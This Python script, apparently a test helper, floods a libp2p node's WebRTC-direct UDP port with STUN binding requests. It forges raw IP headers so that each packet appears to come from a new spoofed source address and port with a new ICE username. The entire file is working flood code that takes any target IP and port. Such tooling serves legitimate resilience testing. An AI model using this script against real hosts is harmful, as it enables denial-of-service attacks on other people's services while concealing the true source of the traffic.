#!/usr/bin/env python3
"""STUN binding requests from spoofed source addresses, as an attacker floods a node's
/webrtc-direct port: every datagram comes from a new (address, port) and names a new ICE
username, so each looks like the first packet of a new browser.

Usage: stun_flood.py <target ip> <port> <count> <rate per second> [source prefix]
Needs a raw socket (root, in the test's network namespace). Prints what it sent.
"""
import os
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def stun_binding_request(ufrag: bytes) -> bytes:
    username = ufrag + b":" + ufrag
    pad = (-len(username)) % 4
    attr = struct.pack("!HH", 0x0006, len(username)) + username + b"\0" * pad
    header = struct.pack("!HHI", 0x0001, len(attr), 0x2112A442) + os.urandom(12)
    return header + attr


def datagram(src: str, sport: int, dst: str, dport: int, payload: bytes) -> bytes:
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.getrandbits(16), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main() -> None:
    target, port, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    prefix = sys.argv[5] if len(sys.argv) > 5 else "10.99"
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    for i in range(count):
        src = f"{prefix}.{random.randint(1, 250)}.{random.randint(1, 250)}"
        ufrag = b"libp2p+webrtc+v1/" + os.urandom(8).hex().encode()
        sock.sendto(datagram(src, random.randint(1024, 65535), target, port, stun_binding_request(ufrag)), (target, 0))
        due = start + (i + 1) / rate
        delay = due - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(f"sent {count} datagrams in {time.monotonic() - start:.1f} s", flush=True)


if __name__ == "__main__":
    main()
